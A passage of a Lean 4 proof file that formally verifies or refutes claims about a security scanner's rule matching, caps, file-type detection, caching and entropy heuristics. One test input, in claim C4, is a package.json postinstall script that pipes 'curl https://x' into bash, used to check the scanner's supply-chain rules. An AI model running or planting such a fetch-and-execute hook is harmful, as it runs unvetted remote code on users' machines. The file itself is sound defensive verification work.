            simp only [List.mem_singleton] at hf
            subst hf
            rfl
          · rw [if_neg hcap] at h
            cases hrec : matchLoop m content lineIndex rule filePath fuel (j + len) p2.2 (hits + 1) with
            | none => simp only [hrec] at h; exact Option.noConfusion h
            | some q =>
              obtain ⟨fs0, exc0, h0⟩ := q
              simp only [hrec, Option.some.injEq, Prod.mk.injEq] at h
              obtain ⟨rfl, rfl, rfl⟩ := h
              intro f hf
              rcases List.mem_cons.mp hf with rfl | hf0
              · rfl
              · exact ih (j + len) p2.2 (hits + 1) fs0 exc0 h0 hrec f hf0

/-- Across all of a rule's patterns, the emitted findings never exceed the
remaining allowance `cap - hits`. -/
theorem patternsLoop_count (content : List Char) (lineIndex : List Nat)
    (rule : CompiledRule) (filePath : String) :
    ∀ ms exc hits fs exc', hits < maxFindingsPerRulePerFile →
      patternsLoop content lineIndex rule filePath ms exc hits = some (fs, exc') →
      fs.length + hits ≤ maxFindingsPerRulePerFile := by
  intro ms
  induction ms with
  | nil =>
    intro exc hits fs exc' hlt h
    simp only [patternsLoop, Option.some.injEq, Prod.mk.injEq] at h
    obtain ⟨rfl, rfl⟩ := h
    simp only [List.length_nil]
    omega
  | cons m ms ih =>
    intro exc hits fs exc' hlt h
    cases hm : matchLoop m content lineIndex rule filePath (content.length + 2) 0 exc hits with
    | none => simp only [patternsLoop, hm] at h; exact Option.noConfusion h
    | some q =>
      obtain ⟨fs1, exc1, hits1⟩ := q
      simp only [patternsLoop, hm] at h
      have hc := matchLoop_count m content lineIndex rule filePath
        (content.length + 2) 0 exc hits fs1 exc1 hits1 hlt hm
      by_cases hcap : maxFindingsPerRulePerFile ≤ hits1
      · rw [if_pos hcap] at h
        simp only [Option.some.injEq, Prod.mk.injEq] at h
        obtain ⟨rfl, rfl⟩ := h
        omega
      · rw [if_neg hcap] at h
        cases hp : patternsLoop content lineIndex rule filePath ms exc1 hits1 with
        | none => simp only [hp] at h; exact Option.noConfusion h
        | some q2 =>
          obtain ⟨fs2, exc2⟩ := q2
          simp only [hp, Option.some.injEq, Prod.mk.injEq] at h
          obtain ⟨rfl, rfl⟩ := h
          have := ih exc1 hits1 fs2 exc2 (by omega) hp
          simp only [List.length_append]
          omega

/-- Every finding a rule's pattern loop emits carries that rule's id. -/
theorem patternsLoop_ruleIds (content : List Char) (lineIndex : List Nat)
    (rule : CompiledRule) (filePath : String) :
    ∀ ms exc hits fs exc',
      patternsLoop content lineIndex rule filePath ms exc hits = some (fs, exc') →
      ∀ f ∈ fs, f.ruleId = rule.id := by
  intro ms
  induction ms with
  | nil =>
    intro exc hits fs exc' h
    simp only [patternsLoop, Option.some.injEq, Prod.mk.injEq] at h
    obtain ⟨rfl, rfl⟩ := h
    simp
  | cons m ms ih =>
    intro exc hits fs exc' h
    cases hm : matchLoop m content lineIndex rule filePath (content.length + 2) 0 exc hits with
    | none => simp only [patternsLoop, hm] at h; exact Option.noConfusion h
    | some q =>
      obtain ⟨fs1, exc1, hits1⟩ := q
      simp only [patternsLoop, hm] at h
      by_cases hcap : maxFindingsPerRulePerFile ≤ hits1
      · rw [if_pos hcap] at h
        simp only [Option.some.injEq, Prod.mk.injEq] at h
        obtain ⟨rfl, rfl⟩ := h
        exact matchLoop_ruleIds m content lineIndex rule filePath _ _ _ _ _ _ _ hm
      · rw [if_neg hcap] at h
        cases hp : patternsLoop content lineIndex rule filePath ms exc1 hits1 with
        | none => simp only [hp] at h; exact Option.noConfusion h
        | some q2 =>
          obtain ⟨fs2, exc2⟩ := q2
          simp only [hp, Option.some.injEq, Prod.mk.injEq] at h
          obtain ⟨rfl, rfl⟩ := h
          intro f hf
          rcases List.mem_append.mp hf with hf1 | hf2
          · exact matchLoop_ruleIds m content lineIndex rule filePath _ _ _ _ _ _ _ hm f hf1
          · exact ih exc1 hits1 fs2 exc2 hp f hf2

/-- Every finding `scanRules` emits carries the id of one of the rules. -/
theorem scanRules_ruleIds (content : List Char) (lineIndex : List Nat)
    (filePath fileType : String) :
    ∀ rules fs rs',
      scanRules content lineIndex filePath fileType rules = some (fs, rs') →
      ∀ f ∈ fs, f.ruleId ∈ rules.map (·.id) := by
  intro rules
  induction rules with
  | nil =>
    intro fs rs' h
    simp only [scanRules, Option.some.injEq, Prod.mk.injEq] at h
    obtain ⟨rfl, rfl⟩ := h
    simp
  | cons r rs ih =>
    intro fs rs' h
    by_cases hft : isFileTypeMatch r fileType
    · cases hp : patternsLoop content lineIndex r filePath r.compiledPatterns r.excludeCompiled 0 with
      | none => simp only [scanRules, if_pos hft, hp] at h; exact Option.noConfusion h
      | some q =>
        obtain ⟨fs1, exc1⟩ := q
        cases hs : scanRules content lineIndex filePath fileType rs with
        | none => simp only [scanRules, if_pos hft, hp, hs] at h; exact Option.noConfusion h
        | some q2 =>
          obtain ⟨fs2, rs2⟩ := q2
          simp only [scanRules, if_pos hft, hp, hs, Option.some.injEq, Prod.mk.injEq] at h
          obtain ⟨rfl, rfl⟩ := h
          intro f hf
          simp only [List.map_cons, List.mem_cons]
          rcases List.mem_append.mp hf with hf1 | hf2
          · exact Or.inl (patternsLoop_ruleIds content lineIndex r filePath _ _ _ _ _ hp f hf1)
          · exact Or.inr (ih fs2 rs2 hs f hf2)
    · cases hs : scanRules content lineIndex filePath fileType rs with
      | none => simp only [scanRules, if_neg hft, hs] at h; exact Option.noConfusion h
      | some q2 =>
        obtain ⟨fs2, rs2⟩ := q2
        simp only [scanRules, if_neg hft, hs, Option.some.injEq, Prod.mk.injEq] at h
        obtain ⟨rfl, rfl⟩ := h
        intro f hf
        simp only [List.map_cons, List.mem_cons]
        exact Or.inr (ih fs2 rs2 hs f hf)

/-- Per-file, per-rule cap: with pairwise distinct rule ids, the full scan
emits at most `maxFindingsPerRulePerFile` findings bearing any one rule's
id. -/
theorem scanRules_countP (content : List Char) (lineIndex : List Nat)
    (filePath fileType : String) :
    ∀ rules r fs rs', (rules.map (·.id)).Nodup → r ∈ rules →
      scanRules content lineIndex filePath fileType rules = some (fs, rs') →
      fs.countP (fun f => f.ruleId == r.id) ≤ maxFindingsPerRulePerFile := by
  intro rules
  induction rules with
  | nil => intro r fs rs' _ hr; exact absurd hr (by simp)
  | cons r0 rs ih =>
    intro r fs rs' hnd hr h
    simp only [List.map_cons, List.nodup_cons] at hnd
    obtain ⟨hnotin, hnd'⟩ := hnd
    have step :
        ∀ fs1 fs2 rs2, (∀ f ∈ fs1, f.ruleId = r0.id) →
          fs1.length ≤ maxFindingsPerRulePerFile →
          scanRules content lineIndex filePath fileType rs = some (fs2, rs2) →
          fs = fs1 ++ fs2 →
          fs.countP (fun f => f.ruleId == r.id) ≤ maxFindingsPerRulePerFile := by
      intro fs1 fs2 rs2 hids hlen hs hfs
      subst hfs
      rw [List.countP_append]
      rcases List.mem_cons.mp hr with rfl | hmem
      · -- `r` is the head rule: its own findings are at most the cap, the
        -- tail's findings have different ids.
        have h2 : fs2.countP (fun f => f.ruleId == r.id) = 0 := by
          rw [List.countP_eq_zero]
          intro f hf
          have := scanRules_ruleIds content lineIndex filePath fileType rs fs2 rs2 hs f hf
          simp only [beq_iff_eq]
          intro hEq
          exact hnotin (hEq ▸ this)
        have h1 : fs1.countP (fun f => f.ruleId == r.id) ≤ fs1.length :=
          List.countP_le_length _
        omega
      · -- `r` is in the tail: the head's findings have id `r0.id ≠ r.id`.
        have h1 : fs1.countP (fun f => f.ruleId == r.id) = 0 := by
          rw [List.countP_eq_zero]
          intro f hf
          have hfid := hids f hf
          simp only [beq_iff_eq, hfid]
          intro hEq
          exact hnotin (hEq ▸ List.mem_map_of_mem (·.id) hmem)
        have h2 := ih r fs2 rs2 hnd' hmem hs
        omega
    by_cases hft : isFileTypeMatch r0 fileType
    · cases hp : patternsLoop content lineIndex r0 filePath r0.compiledPatterns r0.excludeCompiled 0 with
      | none => simp only [scanRules, if_pos hft, hp] at h; exact Option.noConfusion h
      | some q =>
        obtain ⟨fs1, exc1⟩ := q
        cases hs : scanRules content lineIndex filePath fileType rs with
        | none => simp only [scanRules, if_pos hft, hp, hs] at h; exact Option.noConfusion h
        | some q2 =>
          obtain ⟨fs2, rs2⟩ := q2
          simp only [scanRules, if_pos hft, hp, hs, Option.some.injEq, Prod.mk.injEq] at h
          obtain ⟨rfl, rfl⟩ := h
          refine step fs1 fs2 rs2
            (patternsLoop_ruleIds content lineIndex r0 filePath _ _ _ _ _ hp)
            ?_ hs rfl
          have := patternsLoop_count content lineIndex r0 filePath _ _ _ _ _
            (by norm_num [maxFindingsPerRulePerFile]) hp
          omega
    · cases hs : scanRules content lineIndex filePath fileType rs with
      | none => simp only [scanRules, if_neg hft, hs] at h; exact Option.noConfusion h
      | some q2 =>
        obtain ⟨fs2, rs2⟩ := q2
        simp only [scanRules, if_neg hft, hs, Option.some.injEq, Prod.mk.injEq] at h
        obtain ⟨rfl, rfl⟩ := h
        exact step [] fs2 rs2 (by simp) (by simp) hs rfl

/-- The zero-width matcher is a well-behaved search function. -/
theorem zwMatcher_valid : ValidMatcher zwMatcher := by
  intro s i j len h
  unfold zwMatcher at h
  split at h
  · cases h
    omega
  · cases h

/-- The zero-width matcher only reports zero-width matches. -/
theorem zwMatcher_zeroWidth :
    ∀ s i j len, zwMatcher s i = some (j, len) → len = 0 := by
  intro s i j len h
  unfold zwMatcher at h
  split at h
  · cases h; rfl
  · cases h

/-- A rule all of whose patterns only report zero-width matches contributes
no findings, no hits and no exclude-state changes. -/
theorem patternsLoop_zeroWidth (content : List Char) (lineIndex : List Nat)
    (rule : CompiledRule) (filePath : String) :
    ∀ ms exc hits, (∀ m ∈ ms, ValidMatcher m) →
      (∀ m ∈ ms, ∀ s i j len, m s i = some (j, len) → len = 0) →
      patternsLoop content lineIndex rule filePath ms exc hits = some ([], exc) := by
  intro ms
  induction ms with
  | nil => intro exc hits _ _; rfl
  | cons m ms ih =>
    intro exc hits hv hz
    have h1 := matchLoop_zeroWidth m content lineIndex rule filePath
      (hv m (by simp)) (hz m (by simp)) (content.length + 2) 0 exc hits (by omega)
    simp only [patternsLoop, h1]
    by_cases hcap : maxFindingsPerRulePerFile ≤ hits
    · rw [if_pos hcap]
    · rw [if_neg hcap]
      rw [ih exc hits (fun m hm => hv m (by simp [hm])) (fun m hm => hz m (by simp [hm]))]
      rfl

/-- Claim C8: for every compiled rule list with well-behaved matchers the
scan loop terminates (the fuel `content.length + 2` suffices, because every
iteration advances the scan position — a zero-width match advances it by
one), and a rule whose patterns only produce zero-width matches emits no
finding. -/
theorem claim8_zero_width_safe :
    (∀ (content : List Char) (filePath fileType : String) (rules : List CompiledRule),
        (∀ r ∈ rules, ∀ m ∈ r.compiledPatterns, ValidMatcher m) →
        (scanContent content filePath fileType rules).isSome)
  ∧ (∀ (content : List Char) (filePath fileType : String) (r : CompiledRule),
        (∀ m ∈ r.compiledPatterns, ValidMatcher m) →
        (∀ m ∈ r.compiledPatterns, ∀ s i j len, m s i = some (j, len) → len = 0) →
        scanContent content filePath fileType [r] = some ([], [r])) := by
  constructor
  · intro content filePath fileType rules hv
    exact scanRules_isSome content (buildLineIndex content) filePath fileType rules hv
  · intro content filePath fileType r hv hz
    show scanRules content (buildLineIndex content) filePath fileType [r] = some ([], [r])
    have hp := patternsLoop_zeroWidth content (buildLineIndex content) r filePath
      r.compiledPatterns r.excludeCompiled 0 hv hz
    by_cases hft : isFileTypeMatch r fileType
    · simp only [scanRules, if_pos hft, hp]
      rfl
    · simp only [scanRules, if_neg hft]

/-- Witness for C8 at a concrete input: content `ab`, one rule compiled from
a pattern matching the empty string. -/
theorem claim8_witness :
    (scanContent "ab".toList "f.txt" "text" [zwRule]).isSome
  ∧ scanContent "ab".toList "f.txt" "text" [zwRule] = some ([], [zwRule]) := by
  constructor
  · exact claim8_zero_width_safe.1 "ab".toList "f.txt" "text" [zwRule]
      (by intro r hr m hm
          simp only [List.mem_singleton] at hr
          subst hr
          simp only [zwRule, List.mem_singleton] at hm
          subst hm
          exact zwMatcher_valid)
  · exact claim8_zero_width_safe.2 "ab".toList "f.txt" "text" zwRule
      (by intro m hm
          simp only [zwRule, List.mem_singleton] at hm
          subst hm
          exact zwMatcher_valid)
      (by intro m hm
          simp only [zwRule, List.mem_singleton] at hm
          subst hm
          exact zwMatcher_zeroWidth)

/-- Claim C3: per-file, per-rule cap of 20 findings, counted across all of a
rule's patterns; and the concrete spec scenario — 25 disjoint occurrences of
a literal matched by exactly one rule yield exactly 20 findings. -/
theorem claim3_per_rule_cap :
    (∀ (content : List Char) (filePath fileType : String)
        (rules : List CompiledRule) (fs : List Finding) (r : CompiledRule),
        (rules.map (·.id)).Nodup → r ∈ rules →
        (scanContent content filePath fileType rules).map Prod.fst = some fs →
        fs.countP (fun f => f.ruleId == r.id) ≤ 20)
  ∧ (scanContent capContent "f.txt" "text" [capRule]).map
      (fun p => (p.1.length, p.1.countP (fun f => f.ruleId == "RULE_BAD"))) =
      some (20, 20) := by
  constructor
  · intro content filePath fileType rules fs r hnd hr h
    cases hs : scanContent content filePath fileType rules with
    | none => rw [hs] at h; exact absurd h (by simp)
    | some q =>
      obtain ⟨fs0, rs'⟩ := q
      rw [hs] at h
      simp only [Option.map_some', Option.some.injEq] at h
      subst h
      exact scanRules_countP content (buildLineIndex content) filePath fileType
        rules r fs0 rs' hnd hr hs
  · decide

/-- Witness for C3's universal part at the concrete 25-occurrence input. -/
theorem claim3_witness :
    (((scanContent capContent "f.txt" "text" [capRule]).map Prod.fst).getD []).countP
        (fun f => f.ruleId == "RULE_BAD") ≤ 20 :=
  claim3_per_rule_cap.1 capContent "f.txt" "text" [capRule]
    (((scanContent capContent "f.txt" "text" [capRule]).map Prod.fst).getD [])
    capRule (by simp) (by simp) (by decide)

/-- Claim C1 fails on the code: the exclude regexes are compiled with the
`g` flag and probed with `RegExp.prototype.test`, whose `lastIndex` persists
between calls.  With pattern and exclude pattern `EXAMPLE`, the text
`EXAMPLE EXAMPLE` yields one finding (the second occurrence escapes
suppression: the exclude regex's `lastIndex` is `7` after the first test, so
the second test starts past the text, fails, and only resets the state), and
four occurrences yield two findings — the suppression alternates. -/
theorem claim1_excluded_match_emitted :
    (scanContent exclusionContent2 "skill.md" "text" [exclusionRule]).map
        (fun p => p.1.map fun f => (f.ruleId, f.line)) = some [("RULE_X", some 1)]
  ∧ (scanContent exclusionContent4 "skill.md" "text" [exclusionRule]).map
        (fun p => p.1.length) = some 2 := by
  exact ⟨by decide, by decide⟩

/-- Claim C6 fails on the code: `loadRulesFromText` pushes a rule whatever
the number of surviving compiled patterns.  A record whose only pattern is
the invalid regex `(` survives into the corpus with an empty
compiled-pattern set. -/
theorem claim6_counterexample :
    (loadRulesFromYaml litCompile (Yaml.seq [badPatternRule])).toOption.map
        (fun rules => rules.map fun r => (r.id, r.patterns, r.compiledPatterns.length)) =
      some [("R1", ["("], 0)] := by
  rfl

/-- Claim C6 amended: a rule record with truthy required fields is always
present in the compiled corpus — even when every one of its patterns fails
to compile, in which case its compiled-pattern set is empty.  Only records
failing the required-field check are dropped. -/
theorem claim6_zero_pattern_rule_kept :
    ∀ (rc : RegexCompiler) (items : List Yaml) (raw : Yaml),
      raw ∈ items → requiredFieldsTruthy raw = true →
      ∃ rules, loadRulesFromYaml rc (Yaml.seq items) = .ok rules ∧
        ∃ r ∈ rules,
          r.id = ((raw.getField "id").map Yaml.asString).getD "" ∧
          r.compiledPatterns = (rawPatterns raw).filterMap (compilePattern rc) := by
  intro rc items raw hmem htruthy
  refine ⟨items.filterMap (compileRawRule rc), rfl, ?_⟩
  have hcr : ∃ r0, compileRawRule rc raw = some r0 ∧
      r0.id = ((raw.getField "id").map Yaml.asString).getD "" ∧
      r0.compiledPatterns = (rawPatterns raw).filterMap (compilePattern rc) := by
    simp only [compileRawRule, htruthy, Bool.not_true, Bool.false_eq_true, if_false]
    exact ⟨_, rfl, rfl, rfl⟩
  obtain ⟨r0, hr0, hid, hcp⟩ := hcr
  exact ⟨r0, List.mem_filterMap.mpr ⟨raw, hmem, hr0⟩, hid, hcp⟩

/-- Witness for the amended C6 at the concrete record with the invalid
pattern `(`. -/
theorem claim6_witness :
    ∃ rules, loadRulesFromYaml litCompile (Yaml.seq [badPatternRule]) = .ok rules ∧
      ∃ r ∈ rules,
        r.id = ((badPatternRule.getField "id").map Yaml.asString).getD "" ∧
        r.compiledPatterns = (rawPatterns badPatternRule).filterMap (compilePattern litCompile) :=
  claim6_zero_pattern_rule_kept litCompile [badPatternRule] badPatternRule
    (by simp) (by rfl)

/-- Claim C10: a parsed rules document whose top level is not a sequence
(a null from an empty document, a mapping, a scalar, …) makes
`loadRulesFromText` throw instead of returning a rule list. -/
theorem claim10_non_sequence_throws :
    ∀ (rc : RegexCompiler) (v : Yaml), (∀ items, v ≠ Yaml.seq items) →
      loadRulesFromYaml rc v =
        .error "Rules file must contain a YAML array of rules." := by
  intro rc v hv
  cases v with
  | seq items => exact absurd rfl (hv items)
  | null => rfl
  | bool b => rfl
  | num q => rfl
  | str s => rfl
  | map fields => rfl

/-- Witness for C10: the empty YAML document parses to `null`. -/
theorem claim10_witness :
    loadRulesFromYaml (fun _ _ => none) Yaml.null =
      .error "Rules file must contain a YAML array of rules." :=
  claim10_non_sequence_throws (fun _ _ => none) Yaml.null
    (fun _ h => Yaml.noConfusion h)

/-- Claim C7 fails on the code: the `scan-file.ts` `detectFileType` has no
`.tsx`/`.jsx` branches, so those extensions fall through to `"text"`. -/
theorem claim7_counterexample :
    ScanFileTs.detectFileType "a.tsx" = "text"
  ∧ ScanFileTs.detectFileType "b.jsx" = "text"
  ∧ ("text" : String) ≠ "typescript" ∧ ("text" : String) ≠ "javascript" := by
  refine ⟨by decide, by decide, by decide, by decide⟩

/-- If the path's extension differs from the (lowered) extension of `b`,
its basename is not `b`. -/
theorem basename_ne (p e b : String)
    (hext : extnameLower p = e)
    (hne : (⟨(extnameChars b.toList).map Char.toLower⟩ : String) ≠ e) :
    basename p ≠ b := by
  intro hb
  apply hne
  rw [← hext]
  show (⟨(extnameChars b.toList).map Char.toLower⟩ : String) =
    (⟨(extnameChars (basenameChars p.toList)).map Char.toLower⟩ : String)
  have hbc : basenameChars p.toList = b.toList := congrArg String.toList hb
  rw [hbc]

/-- Claim C7 amended: in the `scan-file.ts` variant, `.ts` and `.d.ts`
(whose `extname` is also `".ts"`) map to `typescript` and
`.js`/`.mjs`/`.cjs` map to `javascript`, but `.tsx` and `.jsx` map to
`text`; the extended variant maps `.ts`/`.tsx`/`.d.ts` to `typescript` and
`.js`/`.mjs`/`.cjs`/`.jsx` to `javascript`, exactly as the claim states.
(The special basenames `SKILL.md`/`manifest.json`/`package.json` have
extensions `.md`/`.json`, so they are automatically outside these cases.) -/
theorem claim7_extension_mapping :
    (∀ p : String, extnameLower p = ".ts" → ScanFileTs.detectFileType p = "typescript")
  ∧ (∀ p : String, extnameLower p = ".js" ∨ extnameLower p = ".mjs" ∨ extnameLower p = ".cjs" →
      ScanFileTs.detectFileType p = "javascript")
  ∧ (∀ p : String, extnameLower p = ".tsx" ∨ extnameLower p = ".jsx" →
      ScanFileTs.detectFileType p = "text")
  ∧ (∀ p : String, extnameLower p = ".ts" ∨ extnameLower p = ".tsx" →
      ScanFileExt.detectFileType p = "typescript")
  ∧ (∀ p : String, extnameLower p = ".js" ∨ extnameLower p = ".mjs" ∨ extnameLower p = ".cjs"
        ∨ extnameLower p = ".jsx" →
      ScanFileExt.detectFileType p = "javascript") := by
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · intro p hext
    have h1 := basename_ne p ".ts" "SKILL.md" hext (by decide)
    have h2 := basename_ne p ".ts" "manifest.json" hext (by decide)
    have h3 := basename_ne p ".ts" "package.json" hext (by decide)
    simp [ScanFileTs.detectFileType, hext, h1, h2, h3]
  · intro p hext
    rcases hext with hext | hext | hext <;>
    · have h1 := basename_ne p _ "SKILL.md" hext (by decide)
      have h2 := basename_ne p _ "manifest.json" hext (by decide)
      have h3 := basename_ne p _ "package.json" hext (by decide)
      simp [ScanFileTs.detectFileType, hext, h1, h2, h3, binaryExtensions]
  · intro p hext
    rcases hext with hext | hext <;>
    · have h1 := basename_ne p _ "SKILL.md" hext (by decide)
      have h2 := basename_ne p _ "manifest.json" hext (by decide)
      have h3 := basename_ne p _ "package.json" hext (by decide)
      simp [ScanFileTs.detectFileType, hext, h1, h2, h3, binaryExtensions]
  · intro p hext
    rcases hext with hext | hext <;>
    · have h1 := basename_ne p _ "SKILL.md" hext (by decide)
      have h2 := basename_ne p _ "manifest.json" hext (by decide)
      have h3 := basename_ne p _ "package.json" hext (by decide)
      simp [ScanFileExt.detectFileType, hext, h1, h2, h3]
  · intro p hext
    rcases hext with hext | hext | hext | hext <;>
    · have h1 := basename_ne p _ "SKILL.md" hext (by decide)
      have h2 := basename_ne p _ "manifest.json" hext (by decide)
      have h3 := basename_ne p _ "package.json" hext (by decide)
      simp [ScanFileExt.detectFileType, hext, h1, h2, h3, binaryExtensions]

/-- Witness for the amended C7 at concrete paths. -/
theorem claim7_witness :
    ScanFileTs.detectFileType "src/x.d.ts" = "typescript"
  ∧ ScanFileTs.detectFileType "a.mjs" = "javascript"
  ∧ ScanFileTs.detectFileType "a.tsx" = "text"
  ∧ ScanFileExt.detectFileType "a.tsx" = "typescript"
  ∧ ScanFileExt.detectFileType "b.jsx" = "javascript" :=
  ⟨claim7_extension_mapping.1 "src/x.d.ts" (by decide),
   claim7_extension_mapping.2.1 "a.mjs" (Or.inr (Or.inl (by decide))),
   claim7_extension_mapping.2.2.1 "a.tsx" (Or.inl (by decide)),
   claim7_extension_mapping.2.2.2.1 "a.tsx" (Or.inr (by decide)),
   claim7_extension_mapping.2.2.2.2 "b.jsx" (Or.inr (Or.inr (Or.inr (by decide))))⟩

/-- Claim C4: scanning the package.json
`{"scripts":{"postinstall":"curl https://x | bash"}}` with behavioral
heuristics enabled yields exactly the three supply-chain findings —
`SUPPLY_CHAIN_INSTALL_SCRIPT` (MEDIUM), `SUPPLY_CHAIN_REMOTE_FETCH` (HIGH)
and `SUPPLY_CHAIN_REMOTE_EXEC` (CRITICAL), in that order — each on
`package.json` with `source = heuristic`; this holds for every
implementation of the (absent) manifest and code analyzers, which are not
invoked for this file. -/
theorem claim4_install_script_remote_exec :
    (∀ (am : String → List Char → List Finding)
       (ac : String → List Char → String → List Finding),
       runHeuristics am ac "package.json" c4content "json" =
         [mkInstallScriptFinding "package.json" "postinstall",
          mkRemoteFetchFinding "package.json",
          mkRemoteExecFinding "package.json"])
  ∧ ((mkInstallScriptFinding "package.json" "postinstall").ruleId =
        "SUPPLY_CHAIN_INSTALL_SCRIPT"
    ∧ (mkInstallScriptFinding "package.json" "postinstall").severity = "MEDIUM"
    ∧ (mkInstallScriptFinding "package.json" "postinstall").file = "package.json"
    ∧ (mkInstallScriptFinding "package.json" "postinstall").source = some "heuristic")
  ∧ ((mkRemoteFetchFinding "package.json").ruleId = "SUPPLY_CHAIN_REMOTE_FETCH"
    ∧ (mkRemoteFetchFinding "package.json").severity = "HIGH"
    ∧ (mkRemoteFetchFinding "package.json").file = "package.json"
    ∧ (mkRemoteFetchFinding "package.json").source = some "heuristic")
  ∧ ((mkRemoteExecFinding "package.json").ruleId = "SUPPLY_CHAIN_REMOTE_EXEC"
    ∧ (mkRemoteExecFinding "package.json").severity = "CRITICAL"
    ∧ (mkRemoteExecFinding "package.json").file = "package.json"
    ∧ (mkRemoteExecFinding "package.json").source = some "heuristic") :=
  ⟨fun _ _ => rfl, ⟨rfl, rfl, rfl, rfl⟩, ⟨rfl, rfl, rfl, rfl⟩, ⟨rfl, rfl, rfl, rfl⟩⟩

set_option maxRecDepth 100000 in
/-- Claim C5 fails on the code: the high-entropy heuristic fires exactly
once on the config.py line, but `detectHighEntropyStrings` pushes findings
with no `line` field at all, so the finding's line is `none`, not `1`. -/
theorem claim5_counterexample :
    ¬ ∃ f : Finding,
        runHeuristics (fun _ _ => []) analyzeCode "config.py" c5content "python" = [f]
          ∧ f.ruleId = "HEURISTIC_HIGH_ENTROPY_SECRET" ∧ f.severity = "HIGH"
          ∧ f.line = some 1 := by
  rintro ⟨f, hf, -, -, hline⟩
  have hev : runHeuristics (fun _ _ => []) analyzeCode "config.py" c5content "python"
      = [mkEntropyFinding "config.py"] := by rfl
  rw [hev] at hf
  injection hf with h1 _
  rw [← h1] at hline
  simp [mkEntropyFinding] at hline

set_option maxRecDepth 100000 in
/-- Claim C5 amended: the scan of the config.py line with behavioral
heuristics yields exactly one finding, `HEURISTIC_HIGH_ENTROPY_SECRET` at
HIGH — but with no line number (the entropy detector emits findings
without a `line` field).  The (absent) code analyzer is modelled from the
spec and contributes nothing on this content; the manifest analyzer is
arbitrary since it is not invoked. -/
theorem claim5_high_entropy_no_line :
    (∀ am : String → List Char → List Finding,
      runHeuristics am analyzeCode "config.py" c5content "python" =
        [mkEntropyFinding "config.py"])
  ∧ (mkEntropyFinding "config.py").ruleId = "HEURISTIC_HIGH_ENTROPY_SECRET"
  ∧ (mkEntropyFinding "config.py").severity = "HIGH"
  ∧ (mkEntropyFinding "config.py").line = none :=
  ⟨fun _ => rfl, rfl, rfl, rfl⟩

/-- Claim C2 fails on the code: every `ScanCache` is constructed with the
constant rule version `"1.0"` (`runScanRuleVersion` is not a function of
the rule-file contents), so after a rule-corpus change the loaded cache
still matches on `ruleVersion` and `getCachedFindings` serves the findings
stored under the earlier corpus.  The third conjunct shows the
invalidation mechanism itself works when the versions actually differ —
the call site simply never varies the version. -/
theorem claim2_stale_findings_served :
    ("rulesA" : String) ≠ "rulesB"
  ∧ (getCachedFindings
      (loadCache (mkScanCache (runScanRuleVersion "rulesB"))
        (setCachedFindings (mkScanCache (runScanRuleVersion "rulesA"))
          "f" [c2finding] 0 "h").cache 0)
      "f" 0 "h").1 = some [c2finding]
  ∧ (getCachedFindings
      (loadCache (mkScanCache "2.0")
        (setCachedFindings (mkScanCache "1.0") "f" [c2finding] 0 "h").cache 0)
      "f" 0 "h").1 = none := by
  refine ⟨by decide, by decide, by decide⟩

/-- Decoding inverts encoding on one finding (undefined-dropping
included). -/
theorem decodeFinding_encodeFinding (f : Finding) :
    decodeFinding (encodeFinding f) = some f := by
  rcases f with ⟨rid, sev, msg, fl, line, cat, rem, src⟩
  cases line <;> cases cat <;> cases rem <;> cases src <;>
    simp [encodeFinding, decodeFinding, List.lookup]

/-- Decoding inverts encoding on one target. -/
theorem decodeTarget_encodeTarget (t : Target) :
    decodeTarget (encodeTarget t) = some t := by
  rcases t with ⟨k, n, p, meta⟩
  cases meta <;> simp [encodeTarget, decodeTarget, List.lookup]

theorem decodeFindingList_encode (l : List Finding) :
    decodeFindingList (l.map encodeFinding) = some l := by
  induction l with
  | nil => rfl
  | cons f t ih => simp [decodeFindingList, decodeFinding_encodeFinding, ih]

theorem decodeTargetList_encode (l : List Target) :
    decodeTargetList (l.map encodeTarget) = some l := by
  induction l with
  | nil => rfl
  | cons f t ih => simp [decodeTargetList, decodeTarget_encodeTarget, ih]

/-- Claim C9: for every `ScanResult`, parsing the JSON report back (the
host `JSON.parse ∘ JSON.stringify` being the identity on JSON values, with
`undefined`-valued properties dropped on the way out) and reading its
`findings` and `targets` fields yields lists structurally equal to the
original ones. -/
theorem claim9_report_roundtrip :
    ∀ result : ScanResult,
      payloadFindings (toJsonPayload result) = some result.findings
      ∧ payloadTargets (toJsonPayload result) = some result.targets := by
  intro result
  constructor
  · show payloadFindings (Json.obj _) = _
    simp only [payloadFindings, toJsonPayload, List.lookup]
    simp [decodeFindingList_encode]
  · show payloadTargets (Json.obj _) = _
    simp only [payloadTargets, toJsonPayload, List.lookup]
    simp [decodeTargetList_encode]

/-! ## The entropy criterion is the real Shannon-entropy comparison

`entropyGe` decides `shannonEntropy(value) >= num/den` in exact integer
arithmetic; the next lemmas connect it to the real-valued entropy
`Σ -(p·log2 p)` over the histogram probabilities `p = count/length`, which
is the quantity `shannonEntropy` computes (in IEEE doubles). -/

theorem sum_map_sub_real {α : Type} (l : List α) (f g : α → ℝ) :
    (l.map fun x => f x - g x).sum = (l.map f).sum - (l.map g).sum := by
  induction l with
  | nil => simp
  | cons a t ih => simp [ih]; ring

theorem logb_prod_pow (den : Nat) :
    ∀ l : List Nat, (∀ c ∈ l, 0 < c) →
      Real.logb 2 ((l.map fun c : ℕ => ((c : ℝ)) ^ (den * c)).prod) =
        (l.map fun c : ℕ => (den : ℝ) * (c : ℝ) * Real.logb 2 (c : ℝ)).sum := by
  intro l
  induction l with
  | nil => simp
  | cons c t ih =>
    intro hl
    have hc : (0:ℝ) < (c:ℝ) := by
      have := hl c (by simp)
      exact_mod_cast this
    have hprodpos : (0:ℝ) < (t.map fun c : ℕ => ((c : ℝ)) ^ (den * c)).prod := by
      apply List.prod_pos
      intro x hx
      obtain ⟨c0, hc0, rfl⟩ := List.mem_map.mp hx
      have hc0p : (0:ℝ) < (c0:ℝ) := by
        have := hl c0 (by simp [hc0])
        exact_mod_cast this
      positivity
    simp only [List.map_cons, List.prod_cons, List.sum_cons]
    rw [Real.logb_mul (ne_of_gt (pow_pos hc _)) (ne_of_gt hprodpos), Real.logb_pow,
      ih (fun x hx => hl x (by simp [hx]))]
    push_cast
    ring

theorem entropyGe_iff_rpow (value : List Char) (num den : Nat)
    (hn : value.length ≠ 0) (hden : den ≠ 0) :
    entropyGe value num den = true ↔
      (num : ℝ) / (den : ℝ) ≤
        ((charCounts value).map fun c : ℕ =>
          -(((c : ℝ) / (value.length : ℝ)) *
            Real.logb 2 ((c : ℝ) / (value.length : ℝ)))).sum := by
  set n := value.length with hnd
  set counts := charCounts value with hcountsd
  set S : ℝ := (counts.map fun c : ℕ =>
